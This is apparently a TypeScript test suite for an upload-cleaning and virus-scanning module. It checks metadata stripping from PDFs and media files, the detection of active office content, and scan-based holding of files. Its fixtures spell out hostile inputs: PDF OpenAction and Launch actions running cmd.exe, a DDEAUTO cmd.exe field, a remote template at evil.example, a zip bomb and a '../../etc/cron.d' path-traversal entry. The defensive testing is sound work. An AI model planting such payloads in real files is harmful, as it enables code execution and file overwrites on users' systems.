import { createServer, type AddressInfo, type Server } from 'node:net';
import { zipSync, strToU8 } from 'fflate';
import PDFDocument from 'pdfkit';
import { getDocumentProxy } from 'unpdf';
import { afterAll, describe, expect, it } from 'vitest';
import { keepUploads } from '#casework/keep-upload.server.ts';
import { holdFile, isHeld, scanHeld } from '#casework/held-files.store.server.ts';
import { hiddenIn, withoutAuthor } from '#platform/hidden-data.server.ts';
import { withoutTags } from '#platform/media-tags.ts';
import { openScanner, type Scan } from '#platform/scanner.server.ts';
import type { Files } from '#platform/files.server.ts';
import { checkUpload } from '#platform/upload.server.ts';
import { freshDatabase } from '../support/database.ts';
import type { Schema } from '#tables.ts';

const LIMIT = 10 * 2 ** 20;

function pdf(draw: (doc: PDFKit.PDFDocument) => void = () => undefined): Promise<Buffer> {
	const doc = new PDFDocument({
		info: { Author: 'Telltale Author', Producer: 'Telltale Maker' },
		compress: false
	});
	const chunks: Buffer[] = [];
	doc.on('data', (chunk: Buffer) => chunks.push(chunk));
	doc.text('Broken lamp at the bridge');
	doc.addPage().text('Second page');
	draw(doc);
	doc.end();
	return new Promise((done) => doc.on('end', () => done(Buffer.concat(chunks))));
}

describe('S70 a PDF', () => {
	it('keeps its pages and loses author, program and times', async () => {
		const sent = await pdf();
		expect(sent.includes('Telltale')).toBe(true);
		const checked = await checkUpload(sent, '通知.PDF', LIMIT);
		if ('refused' in checked) throw new Error(checked.refused);
		expect(checked.file).toMatchObject({ type: 'application/pdf', name: '通知.pdf', cleaned: true });
		expect(Buffer.from(checked.file.bytes).includes('Telltale')).toBe(false);
		const kept = await getDocumentProxy(new Uint8Array(checked.file.bytes), { verbosity: 0 });
		expect(kept.numPages).toBe(2);
		const { items } = await (await kept.getPage(1)).getTextContent();
		expect(items.map((one) => ('str' in one ? one.str : '')).join('')).toContain('Broken lamp');
		await kept.loadingTask.destroy();
	});

	const script = { S: 'JavaScript', JS: new String('app.alert(1)') };
	const start = { S: 'Launch', F: new String('cmd.exe') };
	it.each([
		['runs a script when it is opened', script, 'opening'],
		['starts a program when it is opened', start, 'opening'],
		['runs a script behind a link', script, 'link'],
		['starts a program behind a link', start, 'link']
	])('that %s is refused, or loses it', async (_, action, where) => {
		const sent = await pdf((doc) => {
			const root = (doc as unknown as { _root: { data: Record<string, unknown> } })._root;
			if (where === 'opening') root.data['OpenAction'] = action;
			else doc.annotate(10, 10, 50, 50, { Subtype: 'Link', A: action } as never);
		});
		const checked = await checkUpload(sent, 'a.pdf', LIMIT);
		const left = 'refused' in checked ? '' : Buffer.from(checked.file.bytes).toString('latin1');
		expect(left).not.toMatch(/JavaScript|Launch|app\.alert|cmd\.exe|OpenAction/);
		if (where === 'link') expect(checked).toEqual({ refused: 'active-content' });
	});

	it('that carries another file is refused', async () => {
		const sent = await pdf((doc) => doc.file(Buffer.from('MZ program'), { name: 'a.exe' }));
		expect(await checkUpload(sent, 'a.pdf', LIMIT)).toEqual({ refused: 'active-content' });
	});
});

describe('S70 sound and film', () => {
	const box = (name: string, ...inside: Buffer[]): Buffer => {
		const body = Buffer.concat(inside);
		const head = Buffer.alloc(8);
		head.writeUInt32BE(body.length + 8);
		head.write(name, 4, 'latin1');
		return Buffer.concat([head, body]);
	};
	it('lose place and device, and nothing moves', async () => {
		const place = box('udta', box('\u00a9xyz', Buffer.from('+31.0423+110.3401/ Telltale')));
		const film = Buffer.concat([
			box('ftyp', Buffer.from('isom\0\0\0\0isommp42')),
			box(
				'moov',
				box('mvhd', Buffer.alloc(100, 1)),
				place,
				box('trak', box('tkhd', Buffer.alloc(20, 2)), place)
			),
			box('mdat', Buffer.from('what is seen'))
		]);
		const checked = await checkUpload(film, 'a.mp4', LIMIT);
		if ('refused' in checked) throw new Error(checked.refused);
		const kept = Buffer.from(checked.file.bytes);
		expect([kept.length, kept.includes('Telltale'), kept.includes('+31.0423')]).toEqual([
			film.length,
			false,
			false
		]);
		expect(kept.subarray(kept.length - 12).toString()).toBe('what is seen');
		expect(kept.includes(Buffer.alloc(100, 1))).toBe(true);
	});
	it('lose the tags before and after the sound', () => {
		const tag = Buffer.concat([Buffer.from('ID3\u0003\0\0\0\0\0\u0008', 'latin1'), Buffer.from('Telltale')]);
		const last = Buffer.concat([Buffer.from('TAG'), Buffer.alloc(125, 'Telltale')]);
		const sound = Buffer.alloc(300, 7);
		expect(Buffer.from(withoutTags(Buffer.concat([tag, tag, sound, last]), 'mp3'))).toEqual(sound);
	});
	it('that lie about their lengths are walked to an end', () => {
		for (const size of [0, 1, 7, 0xffffffff]) {
			const odd = Buffer.concat([box('ftyp', Buffer.from('isom')), box('moov', Buffer.alloc(12))]);
			odd.writeUInt32BE(size, 12);
			expect(withoutTags(odd, 'mp4').length).toBe(odd.length);
		}
	});
});

describe('S71 an office file', () => {
	const parts = { '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w:document/>') };
	it.each([
		['a macro', { 'word/vbaProject.bin': strToU8('x') }],
		['an ActiveX control', { 'word/activeX/activeX1.xml': strToU8('<ax/>') }],
		[
			'a template from elsewhere',
			{
				'word/_rels/settings.xml.rels': strToU8(
					'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
				)
			}
		],
		[
			'a field that starts a program',
			{ 'word/x.xml': strToU8('<w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>') }
		]
	])('with %s is seen', async (_, more) => {
		expect(await hiddenIn(docx({ ...parts, ...more }))).toContain('scripts');
	});
	it('that would unpack to more than memory is for, or beside itself, is not opened', async () => {
		const bomb = docx({ ...parts, 'word/media/a.bin': new Uint8Array(110 * 2 ** 20) });
		expect(bomb.length).toBeLessThan(2 ** 20);
		const outside = docx({ ...parts, '../../etc/cron.d/a': strToU8('x') });
		for (const one of [bomb, outside]) {
			expect(await hiddenIn(one)).toEqual(['unreadable']);
			expect(await withoutAuthor(one)).toBe(one);
		}
	});
	function docx(files: Record<string, Uint8Array>): Uint8Array {
		const types = strToU8(
			'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
		);
		return zipSync({ ...files, '[Content_Types].xml': types }, { level: 9 });
	}
});

describe('S72 the look for viruses', () => {
	/** Speaks the stream command of ClamAV, as far as it is asked here. */
	const daemon = (answer: () => string): Promise<Server> =>
		new Promise((up) => {
			const server = createServer((socket) => {
				let got = Buffer.alloc(0);
				socket.on('error', () => undefined);
				socket.on('data', (data: Buffer) => {
					got = Buffer.concat([got, data]);
					if (/PING/.test(got.subarray(0, 8).toString('latin1'))) socket.end('PONG\n');
					else if (got.subarray(-4).equals(Buffer.alloc(4))) {
						const says = got.includes('EICAR') ? 'stream: Test-Signature FOUND' : answer();
						socket.end(`${says}\0`);
					}
				});
			});
			server.listen(0, '127.0.0.1', () => up(server));
		});
	const servers: Server[] = [];
	afterAll(() => servers.forEach((one) => one.close()));
	const scanner = async (answer = 'stream: OK'): Promise<Scan> => {
		const server = await daemon(() => answer);
		servers.push(server);
		return openScanner({ host: '127.0.0.1', port: (server.address() as AddressInfo).port });
	};

	it('asks ClamAV, and says when nobody could look', async () => {
		const scan = await scanner();
		expect(await scan(Buffer.from('harmless'))).toBe('clean');
		expect(await scan(Buffer.from('xx EICAR xx'))).toBe('infected');
		expect(await (await scanner('stream: size limit ERROR'))(Buffer.from('a'))).toBe('unknown');
		expect(await openScanner({ host: '127.0.0.1', port: 9 })(Buffer.from('a'))).toBe('unknown');
	});

	it('refuses what is infected, holds what nobody could look at, and lets it go once it is clean', async () => {
		const { db } = await freshDatabase<Schema>();
		const kept = new Map<string, Uint8Array>();
		let verdict: 'clean' | 'infected' | 'unknown' = 'infected';
		const files: Files = {
			put: async (bytes) => {
				const id = String(kept.size).padStart(40, '0');
				kept.set(id, bytes);
				return id;
			},
			get: async (id) => kept.get(id) ?? new Uint8Array(),
			stream: () => Promise.reject(new Error('not asked')),
			remove: async (id) => void kept.delete(id),
			scan: async () => verdict,
			hold: (id) => holdFile(db, id, new Date())
		};
		const upload = new File([new Uint8Array(await pdf())], 'a.pdf');
		const send = async (sealed = false) => {
			const prepare = sealed
				? async (file: { bytes: Uint8Array }) => ({ ...file, bytes: new Uint8Array(3) })
				: undefined;
			const [one] = await keepUploads(files, [upload], 1, prepare as never);
			return one;
		};
		expect(await send()).toMatchObject({ refused: 'infected' });
		verdict = 'unknown';
		expect(await send(true)).toMatchObject({ refused: 'not-checked' });
		expect(kept.size).toBe(0);
		const one = await send();
		const key = one && 'file' in one ? one.file.storage_key : '';
		expect(await isHeld(db, key)).toBe(true);
		expect(await scanHeld(db, files, async () => 'unknown')).toEqual({ clean: 0, infected: 0 });
		expect(await scanHeld(db, files, async () => 'clean')).toEqual({ clean: 1, infected: 0 });
		expect(await isHeld(db, key)).toBe(false);
		const other = await send();
		const bad = other && 'file' in other ? other.file.storage_key : '';
		expect(await scanHeld(db, files, async () => 'infected')).toEqual({ clean: 0, infected: 1 });
		expect(await scanHeld(db, files, async () => 'clean')).toEqual({ clean: 0, infected: 0 });
		expect(await isHeld(db, bad)).toBe(true);
	});
});
